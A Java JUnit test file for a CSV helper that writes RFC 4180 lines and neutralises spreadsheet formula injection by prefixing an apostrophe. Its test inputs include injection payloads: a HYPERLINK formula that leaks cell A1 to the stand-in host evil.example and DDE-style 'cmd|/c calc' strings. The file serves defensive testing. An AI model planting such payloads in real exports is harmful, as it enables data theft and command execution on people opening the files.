package io.filrouge.domain.audiences;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellsTest {
  @Test
  void writesLinesOfRfc4180() {
    assertThat(
            CsvCells.line(
                Arrays.asList("a", null, "", "b,c", "d\"e", "f\r\ng", "h\ni", " j ", "é")))
        .isEqualTo("a,,\"\",\"b,c\",\"d\"\"e\",\"f\r\ng\",\"h\ni\",\" j \",é\r\n");
    assertThat(CsvCells.line(List.of("x"))).isEqualTo("x\r\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1)",
        "@SUM(A1:A9)",
        "+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "-",
        "+1-1",
        "-1.",
        "--1",
        "+33612345678;ext=7"
      })
  void putsAnApostropheBeforeWhatASpreadsheetWouldReckon(String text) {
    assertThat(CsvCells.guarded(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "-12.5", "+33612345678", "-1", "jo@shop.example", "a=b", " =1", "'=1", "1e-3"})
  void leavesNumbersPhonesAndPlainTextsAlone(String text) {
    assertThat(CsvCells.guarded(text)).isEqualTo(text);
  }

  @Test
  void leavesNothingAsNothing() {
    assertThat(CsvCells.guarded(null)).isNull();
  }
}
